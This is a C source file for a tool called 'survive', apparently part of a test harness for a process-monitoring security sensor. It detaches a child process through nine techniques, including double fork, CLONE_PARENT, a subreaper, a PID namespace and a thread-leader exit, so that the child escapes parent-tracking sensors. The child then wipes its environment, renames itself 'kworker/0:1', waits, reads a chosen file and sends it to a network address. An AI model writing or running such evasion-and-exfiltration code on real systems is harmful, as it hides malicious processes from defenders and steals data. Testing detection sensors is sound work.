/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * survive - leaves its family by one of many ways, waits, then steals: `survive MODE UNTIL FILE
 * ADDRESS:PORT`.
 *
 * The caller gets "EFFECT ... detached PID" at once and may end; the survivor, with neither
 * terminal, environment, working directory nor a parent of this tree, reads FILE and sends it
 * after UNTIL seconds, or when there is a file of the path UNTIL. `survive list` prints the modes.
 * `none` as FILE: it only lives on.
 */
#define _GNU_SOURCE
#include "truth.h"

#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>

static int report[2];
static const char *until, *file, *to;

/* What the survivor does. It wipes the environment that /proc/PID/environ shows, not only libc's
 * copy. */
static int live(void)
{
	char data[4096];
	extern char **environ;
	pid_t self = getpid();
	ssize_t n;
	int fd;

	for (char **e = environ; e && *e; e++)
		memset(*e, 'x', strlen(*e));
	fd = open("/dev/null", O_RDWR);
	dup2(fd, 0);
	dup2(fd, 1);
	dup2(fd, 2);
	if (chdir("/") < 0 || write(report[1], &self, sizeof(self)) < 0)
		return 1;
	for (fd = 3; fd < 64; fd++)
		close(fd);
	prctl(PR_SET_NAME, "kworker/0:1");
	if (*until != '/')
		sleep(atoi(until));
	else
		while (access(until, F_OK) < 0)
			usleep(50000);
	if (!strcmp(file, "none")) {
		for (;;)
			pause();
	}
	fd = open(file, O_RDONLY);
	n = fd < 0 ? -1 : read(fd, data, sizeof(data));
	return n > 0 && deliver(to, data, n) > 0 ? 0 : 1;
}

static void by_fork(void)
{
	if (fork() == 0)
		_exit(live());
}

static void by_setsid(void)
{
	if (fork() == 0) {
		setsid();
		_exit(live());
	}
}

static void by_double_fork(void)
{
	pid_t child = fork();

	if (child == 0) {
		setsid();
		if (fork() == 0)
			_exit(live());
		_exit(0);
	}
	waitpid(child, NULL, 0);
}

/*
 * With CLONE_PARENT the child's parent is our parent: a sensor that follows real_parent does not
 * see that we forked it.
 */
static void by_clone_parent(void)
{
	if (syscall(__NR_clone, CLONE_PARENT | SIGCHLD, NULL, NULL, NULL, NULL) == 0) {
		setsid();
		_exit(live());
	}
}

/* Everything at once: double fork, setsid, CLONE_PARENT in each generation. */
static void by_all(void)
{
	if (syscall(__NR_clone, CLONE_PARENT | SIGCHLD, NULL, NULL, NULL, NULL) == 0) {
		setsid();
		if (syscall(__NR_clone, CLONE_PARENT | SIGCHLD, NULL, NULL, NULL, NULL) == 0) {
			setsid();
			if (fork() == 0)
				_exit(live());
		}
		_exit(0);
	}
}

/* A thread of the child forks while its leader is already gone. */
static int forks_from_thread(void *unused)
{
	(void)unused;
	usleep(50000);
	if (fork() == 0)
		_exit(live());
	return 0;
}

static void by_thread(void)
{
	static char stack[65536] __attribute__((aligned(16)));

	if (fork() == 0) {
		setsid();
		clone(forks_from_thread, stack + sizeof(stack),
		      CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD, NULL);
		syscall(__NR_exit, 0); /* the leader only */
	}
}

static void by_vfork(void)
{
	pid_t child = vfork();

	if (child == 0) {
		/* The vforked child forks, so that it no longer shares our memory. */
		if (syscall(__NR_clone, SIGCHLD, NULL, NULL, NULL, NULL) == 0) {
			setsid();
			_exit(live());
		}
		_exit(0);
	}
}

/*
 * Its orphans become children of a subreaper instead of init, so that a sensor which looks at
 * parents sees another process tree.
 */
static void by_subreaper(void)
{
	pid_t child;

	if (fork() != 0)
		return;
	setsid();
	prctl(PR_SET_CHILD_SUBREAPER, 1);
	child = fork();
	if (child == 0) {
		if (fork() == 0)
			_exit(live());
		_exit(0);
	}
	waitpid(child, NULL, 0);
	for (int fd = 0; fd < 64; fd++)
		close(fd);
	waitpid(-1, NULL, 0); /* the orphan */
	_exit(0);
}

/* The death signal that a parent may have asked for is dropped by the next exec or prctl. */
static void by_pidns(void)
{
	if (fork() == 0) {
		if (unshare(CLONE_NEWUSER | CLONE_NEWPID) < 0)
			_exit(1);
		if (fork() == 0) {
			setsid();
			prctl(PR_SET_PDEATHSIG, 0);
			_exit(live());
		}
		_exit(0);
	}
}

static const struct {
	const char *name;
	void (*leave)(void);
} modes[] = {
	{ "fork", by_fork },
	{ "setsid", by_setsid },
	{ "double-fork", by_double_fork },
	{ "clone-parent", by_clone_parent },
	{ "all", by_all },
	{ "thread", by_thread },
	{ "vfork", by_vfork },
	{ "subreaper", by_subreaper },
	{ "pidns", by_pidns },
};

int main(int argc, char **argv)
{
	if (argc == 2 && !strcmp(argv[1], "list")) {
		for (size_t i = 0; i < ARRAY_SIZE(modes); i++)
			puts(modes[i].name);
		return 0;
	}
	if (argc != 5)
		usage("survive MODE UNTIL FILE|none ADDRESS:PORT");
	until = argv[2];
	file = argv[3];
	to = argv[4];
	signal(SIGHUP, SIG_IGN);
	if (pipe2(report, O_CLOEXEC) < 0)
		refused("pipe", errno);
	for (size_t i = 0; i < ARRAY_SIZE(modes); i++) {
		pid_t survivor;

		if (strcmp(argv[1], modes[i].name))
			continue;
		modes[i].leave();
		close(report[1]);
		if (read(report[0], &survivor, sizeof(survivor)) != sizeof(survivor))
			refused(argv[1], ECHILD);
		effect("%s: detached %d", argv[1], survivor);
	}
	usage("survive MODE UNTIL FILE|none ADDRESS:PORT; see: survive list");
}
